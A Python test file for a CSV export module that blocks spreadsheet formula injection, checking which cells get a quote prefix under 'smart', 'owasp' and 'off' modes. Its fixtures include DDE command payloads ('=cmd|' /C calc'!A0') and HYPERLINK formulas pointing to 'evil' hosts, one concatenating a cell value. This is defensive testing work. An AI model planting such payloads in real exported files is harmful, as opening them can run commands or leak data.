"""No cell of a CSV runs in a spreadsheet program, and no number or phone number is changed."""

import functools
import sys
import unicodedata
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sheets_decrypt.output.csv_text import CsvText, Guard
from tests.output.csv_cells import CELLS, GUARDS, read


def guarded(cell: str, guard: Guard) -> bool:
    """Return whether the guard puts a `'` before a cell, and assert that it does nothing else."""
    text = CsvText("utf-8", guard)
    ((written,),) = read(text.rows([[cell]]))
    assert written in {cell, "'" + cell}
    assert text.guarded_cells == (written != cell)
    return written != cell


RUNS = [
    "=",
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "@",
    "@SUM(1+1)",
    "\t=1+1",
    "\ttext",
    "\r=1+1",
    "\rtext",
    "+",
    "-",
    "+ ",
    "- ",
    "--5",
    "++5",
    "+-5",
    "-+5",
    "-a",
    "+a",
    "- hello",
    "-- signed",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+57 300 1234567|x",
    "+57 300 1234567=1",
    "-1=1",
    "-5\n=1+1",
    "+5\t",
    "-5*2",
    "-5^2",
    "-5&A1",
    "+5%%",
    "-A1",
    "+SUM(1)",
    "-(1+2)",
    "-$5",
    "-1e",
    "-1e+",
    "-.",
    "-,5",
    "+()",
    "-5 EUR",
    "-cmd",
    "+5!A0",
    "-1x",
    " =1+1",
    "\x00=1",
    "\ufeff=1",
    "\ufeff\ufeff@SUM(1)",
    "\n=1+1",
    "\x0b=1",
    "\x7f=1",
    "\xa0 =1",
    "\u200b\u202a=1",
    "\u3000-A1",
    "\u202a+SUM(1)",
    " +57 300 1234567|x",
    "＝1+1",
    "＠SUM(1)",
    "＋A1",
    "－1+A1",
    "\ufe0f＝1",
    "+1 ext",
    "+57 300 ext 5 ext 6",
    '-"5"',
    "+'5'",
]
SPARED = [
    "-5",
    "+5",
    "+ 1",
    "- 1",
    "-0",
    "+007",
    "-1,234.5",
    "-1.234,5",
    "-.5",
    "+.5e3",
    "-1e5",
    "+1E-5",
    "-1.5e+300",
    "+3.5%",
    "-.5%",
    "+573001234567",
    "+57 300 1234567",
    "+1 (555) 123-4567",
    "+1-555-123-4567",
    "+49 30/1234567",
    "+44.20.7946.0958",
    "+(57) 300 1234567",
    "+1 555 123 4567 ext. 89",
    "+1 555 123 4567 ext 89",
    "+1 555 123 4567x89",
    " +57 300 1234567",
    " -5",
    "+57 300 1234567 ",
    "\u202a+57 300 1234567\u202c",
    "+57\xa0300\xa01234567",
    "\u200e+1\u2011555\u2011123\u20114567",
    "\ufeff-1,234.5",
    "＋81 90 1234 5678",
    "＋８１ ９０ １２３４ ５６７８",
]
HARMLESS = [
    "",
    "text",
    "'=1+1",
    "1+1",
    "5",
    "a=1",
    "a@b.org",
    "№=1",
    "Ana María",
    "#ERROR!",
    "'",
    '"=1"',
    "No Data",
    "\ufefftext",
    " ",
    "\xa0text = 1",
    "v2:AAAA",
    "(=1)",
]


@pytest.mark.parametrize("cell", RUNS)
def test_a_cell_that_a_spreadsheet_would_run_is_guarded(cell: str) -> None:
    """`smart` and `owasp` put a `'` before every start of a formula."""
    assert guarded(cell, "smart")
    assert guarded(cell, "owasp")
    assert not guarded(cell, "off")


@pytest.mark.parametrize("cell", SPARED)
def test_smart_spares_numbers_and_phone_numbers(cell: str) -> None:
    """A signed number and a phone number are unchanged under `smart`; `owasp` guards them."""
    assert not guarded(cell, "smart")
    assert guarded(cell, "owasp")
    assert not guarded(cell, "off")


@pytest.mark.parametrize("cell", HARMLESS)
def test_cells_that_do_not_begin_a_formula_are_left_alone(cell: str) -> None:
    """Other cells are unchanged under every guard."""
    for guard in ("smart", "owasp", "off"):
        assert not guarded(cell, guard)


def test_owasp_guards_a_line_feed_too() -> None:
    """`owasp` follows OWASP's whole list; `smart` leaves text that begins with a line break."""
    assert guarded("\ntext", "owasp")
    assert not guarded("\ntext", "smart")


@pytest.mark.parametrize("guard", GUARDS)
def test_a_column_that_holds_every_sign_is_guarded(guard: Guard) -> None:
    """Formulas of all kinds are guarded in one page, one below the other."""
    cells = [f"{sign}a" for sign in ("=@+-\t\r＝＠＋－" + ("\n" if guard == "owasp" else ""))]
    text = CsvText("utf-8", guard)
    assert read(text.rows([[cell] for cell in cells])) == [[f"'{cell}"] for cell in cells]


@functools.cache
def _unseen() -> list[str]:
    """Return every invisible character of Unicode."""
    kinds = {"Cc", "Cf", "Zs", "Zl", "Zp"}
    every = map(chr, range(sys.maxunicode + 1))
    return [mark for mark in every if unicodedata.category(mark) in kinds or mark.isspace()]


@pytest.mark.parametrize("sign", "=@＝＠")
def test_no_invisible_character_hides_a_formula(sign: str) -> None:
    """Every blank, control character and format mark of Unicode before a formula is skipped, but no letter is."""
    marks = _unseen()
    for guard in GUARDS:
        text = CsvText("utf-8", guard)
        text.rows([[f"{mark}{sign}1"] for mark in marks])
        assert text.guarded_cells == len(marks)
        text.rows([[f"{letter}{sign}1"] for letter in "aZ0é'\"(#_.½あ"])
        assert text.guarded_cells == len(marks)


@given(
    st.text(st.sampled_from(" \t\r\n\0\ufeff\xa0\u200b\u202a\ufe0f"), max_size=4),
    st.sampled_from(["utf-8", "utf-8-sig"]),
)
def test_the_first_name_of_the_header_cannot_hide_a_formula(
    marks: str, encoding: Literal["utf-8", "utf-8-sig"]
) -> None:
    """A program that strips the file's mark and further marks of the first cell finds text, not a formula."""
    data = CsvText(encoding, "smart").header([marks + "=1+1", "b"]).decode()
    assert read(data.removeprefix("\ufeff").encode())[0][0] == f"'{marks}=1+1"


@pytest.mark.parametrize("name", ["sep=;", "SEP=;", "\ufeff sep=;", "sep=;\nid"])
def test_the_header_never_announces_a_separator(name: str) -> None:
    """Excel splits a file that begins with `sep=;` at each `;`, so a formula in the middle of a cell would run."""
    for names in ([name], [name, "b"]):
        text = CsvText("utf-8", "smart")
        assert read(text.header(names))[0] == ["'" + name, *names[1:]]
        assert text.guarded_cells == 1
    assert read(CsvText("utf-8", "smart").header(["a", name]))[0] == ["a", name]
    assert read(CsvText("utf-8", "off").header([name]))[0] == [name]


@given(
    st.integers(-(10**9), 10**9),
    st.text(st.sampled_from(" \xa0\u200e\u202a\u2060"), max_size=3),
    st.text(" \xa0\u202c"),
)
def test_smart_spares_numbers_between_marks(number: int, before: str, after: str) -> None:
    """A number that was copied with blanks or direction marks around it is unchanged."""
    for sign in "+-":
        assert not guarded(f"{before}{sign}{abs(number)}{after}", "smart")


@given(CELLS)
def test_owasp_leaves_no_trigger_at_a_cells_start(cell: str) -> None:
    """Under `owasp` no cell begins with one of its characters, and under `smart` none with `=`, `@`, tab or CR."""
    for guard, triggers in (("owasp", "=+-@\t\r\n＝＋－＠"), ("smart", "=@＝＠\t\r")):
        ((written,),) = read(CsvText("utf-8", guard).rows([[cell]]))  # type: ignore[arg-type]
        assert not written or written[0] not in triggers


@given(st.text(st.sampled_from("+-=@|!'()*^&$%aA1.,eExt /"), max_size=12))
def test_smart_spares_nothing_that_names_or_calls(text: str) -> None:
    """After a sign, `smart` spares no operator but `-` and `/` between digits, and no name, string or call."""
    for cell in ("+" + text, "-" + text):
        if not guarded(cell, "smart"):
            assert not set(cell) & set("=@|!'*^&$aA")
            assert set(cell[1:]) & set("0123456789")
            assert "+" not in cell[1:] or cell[cell.index("+", 1) - 1] in "eE"


def test_the_header_is_kept_and_guarded() -> None:
    """Blank and duplicate names are kept; a name that a spreadsheet would run is guarded, as editors can write it."""
    text = CsvText("utf-8", "smart")
    assert text.header(["a", "", "a", '=HYPERLINK("http://evil/"&B2)', 'say "b"']) == (
        b'a,,a,"\'=HYPERLINK(""http://evil/""&B2)","say ""b"""\r\n'
    )
    assert text.guarded_cells == 1
    assert CsvText("utf-8", "off").header(["=x"]) == b"=x\r\n"
